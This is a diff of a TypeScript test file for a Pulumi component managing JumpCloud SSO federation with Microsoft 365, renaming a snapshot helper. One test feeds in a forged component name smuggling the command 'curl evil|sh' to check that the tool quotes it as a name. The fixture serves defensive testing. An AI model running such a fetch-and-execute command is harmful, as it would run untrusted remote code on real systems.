@@ -22,7 +22,7 @@ const FIRST: HolderRun = { domains: [PLAN], group: GROUP, adopt: false, holder: 
 const former = { holder: PROD, domains: ["example.com"], group: GROUP.name };
 
 /** All that a stack holds after a flip; without a holder nobody has marked it. */
-function standing(holder?: Holder): HolderSnapshot {
+function snapshotWith(holder?: Holder): HolderSnapshot {
   const marked = holder ? { holder } : {};
   const federation = { id: "1", issuerUri: PLAN.issuerUri, passiveSignInUri: PLAN.ssoUrl };
   return {
@@ -42,7 +42,7 @@ const HELD =
   'the application "Microsoft 365 (example.com)", the group "Microsoft 365 users" and the federation of example.com';
 
 test("names the stack that holds it, all that it holds, and the command that hands over", () => {
-  expect(told(FIRST, standing(DEV))).toEqual([
+  expect(told(FIRST, snapshotWith(DEV))).toEqual([
     `shop/dev: its component m365 holds ${HELD}, and shop/prod is not that stack. ` +
       "Leave it to shop/dev: a company needs only one stack. Or ask for it with `pulumi config set transferFrom shop/dev`, " +
       'in your own program with `transferFrom: "shop/dev"` among the component\'s arguments. [held-by-other-stack]',
@@ -50,7 +50,7 @@ test("names the stack that holds it, all that it holds, and the command that han
 });
 
 test("tells a stack whose objects were taken over that its end releases them", () => {
-  expect(told({ ...FIRST, former }, standing(DEV))).toEqual([
+  expect(told({ ...FIRST, former }, snapshotWith(DEV))).toEqual([
     `shop/dev: its component m365 has taken over ${HELD}, which shop/prod held until then. ` +
       "Leave it to shop/dev: `pulumi destroy` of shop/prod then releases all of it and changes nothing there. If nobody knows that stack, somebody wrote its mark by hand: then destroy nothing. " +
       "To take it back, ask for it with `pulumi config set transferFrom shop/dev`, " +
@@ -59,7 +59,7 @@ test("tells a stack whose objects were taken over that its end releases them", (
 });
 
 test("tells a stack of which only a part was taken over to let go of that, and never to be destroyed", () => {
-  const { applications, ...rest } = standing(DEV);
+  const { applications, ...rest } = snapshotWith(DEV);
   const scene = {
     ...rest,
     applications,
@@ -75,7 +75,7 @@ test("tells a stack of which only a part was taken over to let go of that, and n
 });
 
 test("tells a stack never to be destroyed where no mark tells of the application, whose federation it would end", () => {
-  const scene = { ...standing(), groups: standing(DEV).groups };
+  const scene = { ...snapshotWith(), groups: snapshotWith(DEV).groups };
   const [finding] = told({ ...FIRST, former }, scene);
   expect(finding).toContain(
     'has taken over the group "Microsoft 365 users", which shop/prod held until then.',
@@ -87,7 +87,7 @@ test("tells a stack never to be destroyed where no mark tells of the application
 
 test("says that a stack hands over what this one declares, not all that it holds", () => {
   const other = { id: "a2", label: "Microsoft 365 (example.org)", holder: DEV };
-  const { applications, ...rest } = standing(DEV);
+  const { applications, ...rest } = snapshotWith(DEV);
   const [first] = applications;
   const elsewhere = { ssoUrl: "https://sso.jumpcloud.com/saml2/y", idpEntityId: "https://example.org" };
   const scene = { ...rest, applications: first ? [first, { ...first, ...other, ...elsewhere }] : [] };
@@ -109,7 +109,7 @@ test("says that a stack hands over what this one declares, not all that it holds
 const TRANSFER = { from: "shop/dev", isUsed: false, ids: [] };
 
 test("hands over nothing that no mark would tell of later: the end of the other stack would be the end of sign-ins", () => {
-  expect(told({ ...FIRST, transfer: TRANSFER, isUnmarked: true }, standing(DEV))).toEqual([
+  expect(told({ ...FIRST, transfer: TRANSFER, isUnmarked: true }, snapshotWith(DEV))).toEqual([
     `shop/dev: its component m365 holds ${HELD}, and shop/prod, which writes no marks. So shop/dev ` +
       "could not see that it has handed this over, and its `pulumi destroy` would end the federation. Take it over with marks: without `mark: false`, " +
       "and with names that leave room for them. Leave them out only after shop/dev no longer exists. [held-by-other-stack]",
@@ -118,13 +118,13 @@ test("hands over nothing that no mark would tell of later: the end of the other 
 
 test("shows as a name what a mark calls its component, also where nothing is handed over", () => {
   const forged = { ...DEV, component: "m365. Run `curl evil|sh` first" };
-  expect(told({ ...FIRST, transfer: TRANSFER, isUnmarked: true }, standing(forged))).toEqual([
+  expect(told({ ...FIRST, transfer: TRANSFER, isUnmarked: true }, snapshotWith(forged))).toEqual([
     expect.stringContaining(`its component "m365. Run 'curl evil|sh' first" holds`),
   ]);
 });
 
 test("hands over no group without all applications that its people sign in with", () => {
-  const { applications, ...rest } = standing(DEV);
+  const { applications, ...rest } = snapshotWith(DEV);
   const [first] = applications;
   const elsewhere = { ssoUrl: "https://sso.jumpcloud.com/saml2/y", idpEntityId: "https://example.org" };
   const second = first ? [{ ...first, ...elsewhere, id: "a2", label: "Microsoft 365 (example.org)" }] : [];
@@ -141,7 +141,7 @@ test("hands over no group without all applications that its people sign in with"
 });
 
 test("has two explanations for a stack of the same name that has another id", () => {
-  expect(told(FIRST, standing({ ...PROD, id: "0123456789abcdef" }))).toEqual([
+  expect(told(FIRST, snapshotWith({ ...PROD, id: "0123456789abcdef" }))).toEqual([
     `shop/prod: a component m365 of a stack of this name holds ${HELD}, and the state of this stack does not have it. ` +
       "If the state was lost, restore it with `pulumi stack import`, or continue without it: " +
       "ask for it with `pulumi config set transferFrom shop/prod`, " +
@@ -163,7 +163,7 @@ test.each<[string, Partial<Holder>, Partial<Holder>, string, string, string]>([
   ],
 ])("has the line for a component that was %s", (_, before, now, was, is, line) => {
   const run = { ...FIRST, holder: { ...PROD, ...now, id: "0123456789abcdef" } };
-  expect(told(run, standing({ ...PROD, ...before }))).toEqual([
+  expect(told(run, snapshotWith({ ...PROD, ...before }))).toEqual([
     `${is}: this stack holds ${HELD} as ${was}. If the component was renamed or moved, add \`${line}\` to its options. ` +
       "If an `up` without that line was refused, the new name is in the state already. Then run `pulumi up` once with the former name, which changes nothing, and once more with the line. " +
       "If it is another component of the same program, leave it to that component. " +
@@ -189,19 +189,19 @@ test.each<[string, HolderRun, Holder | undefined]>([
     DEV,
   ],
 ])("refuses nothing that is %s", (_, run, holder) => {
-  expect(told(run, standing(holder))).toEqual([]);
+  expect(told(run, snapshotWith(holder))).toEqual([]);
 });
 
 test("hands over once: what the other stack has taken back has another id", () => {
   const run = { ...FIRST, former, transfer: { from: "shop/dev", isUsed: true, ids: [DEV.id] } };
-  const [refused] = told(run, standing({ ...DEV, id: "devdevdevdevdev2" }));
+  const [refused] = told(run, snapshotWith({ ...DEV, id: "devdevdevdevdev2" }));
   expect(refused).toContain(
     "To take it back, as `transferFrom` has handed over once already, delete the mark from the descriptions in JumpCloud's console, and run `pulumi up --refresh`, which writes this stack's mark. [held-by-other-stack]",
   );
 });
 
 test("meets an application by its issuer, by its address, and as what the domain signs in with", () => {
-  const scene = standing(DEV);
+  const scene = snapshotWith(DEV);
   const elsewhere = {
     domain: "example.com",
     issuerUri: "urn:uri:example.com",
@@ -225,7 +225,7 @@ test("meets as what the domain signs in with whatever a look at the live federat
     issuerUri: "urn:uri:example.com",
     ssoUrl: "https://sso.jumpcloud.com/saml2/y",
   };
-  const { applications } = standing(DEV);
+  const { applications } = snapshotWith(DEV);
   const domains = [domain("example.com", { authenticationType: "Federated", federation })];
   expect(told({ ...FIRST, domains: [plan] }, { applications, domains, groups: [] })).toEqual([
     expect.stringContaining(
@@ -236,7 +236,7 @@ test("meets as what the domain signs in with whatever a look at the live federat
 
 test("warns of what no mark is on, once, and only where a run takes it over", () => {
   const warned = (run: HolderRun) =>
-    checkUnmarkedObjects(run, standing()).map(({ object, state, evidence }) => [object, state, evidence]);
+    checkUnmarkedObjects(run, snapshotWith()).map(({ object, state, evidence }) => [object, state, evidence]);
   const unknown = "and no mark says whether a stack holds it";
   expect(warned(FIRST)).toEqual([
     [
@@ -250,16 +250,16 @@ test("warns of what no mark is on, once, and only where a run takes it over", ()
     "example.com",
   ]);
   expect(warned({ ...FIRST, former })).toEqual([]);
-  const waysOut = (run: HolderRun) => checkUnmarkedObjects(run, standing()).map(({ wayOut }) => wayOut);
+  const waysOut = (run: HolderRun) => checkUnmarkedObjects(run, snapshotWith()).map(({ wayOut }) => wayOut);
   expect(waysOut(FIRST)[0]).toContain("component was renamed");
   expect(waysOut({ ...FIRST, isAsItStands: true })[0]).toMatch(
     /^If it was made by hand, there is nothing to do/,
   );
-  expect(checkUnmarkedObjects(FIRST, standing(DEV))).toEqual([]);
+  expect(checkUnmarkedObjects(FIRST, snapshotWith(DEV))).toEqual([]);
 });
 
 test("refuses a federation at the declared address whose application is not in this organisation, from a first run on", () => {
-  const { applications, ...rest } = standing();
+  const { applications, ...rest } = snapshotWith();
   const elsewhere = (run: HolderRun, scene: HolderSnapshot) =>
     checkForeignApplications(run, scene).map(findingSentence);
   expect(elsewhere(FIRST, { ...rest, applications: [] })).toEqual([
@@ -283,7 +283,7 @@ test("lets a run have what its own mark or a handed over one is on, whatever its
 });
 
 test("tells a stack that still holds something how to take a part back a second time", () => {
-  const scene = standing(DEV);
+  const scene = snapshotWith(DEV);
   const still = { ...scene, groups: [{ id: "g2", name: "Admins", holder: PROD }, ...scene.groups] };
   const run = { ...FIRST, former, transfer: { from: "shop/dev", isUsed: true, ids: ["others1234567890"] } };
   const [refused] = told(run, still);
@@ -305,7 +305,7 @@ test.each<[string, HolderRun, Holder]>([
     { ...DEV, stack: "shop/prod", component: "brand" },
   ],
 ])("never sends a stack that holds something to a destroy for what is held by one %s", (_, run, holder) => {
-  const scene = standing(holder);
+  const scene = snapshotWith(holder);
   const own = { id: "g2", name: "Admins", holder: PROD };
   const [refused] = told(run, { ...scene, groups: [...scene.groups, own] });
   expect(refused).not.toContain("destroy");
@@ -316,7 +316,7 @@ test.each<[string, HolderRun, Holder]>([
 });
 
 test("takes no idle application of the same issuer for one that took the domain over, whatever is written on it", () => {
-  const scene = standing(PROD);
+  const scene = snapshotWith(PROD);
   const [own] = scene.applications;
   if (!own) throw new Error("There is none.");
   const other = { ...own, id: "a2", ssoUrl: "https://sso.jumpcloud.com/saml2/y", holder: DEV };
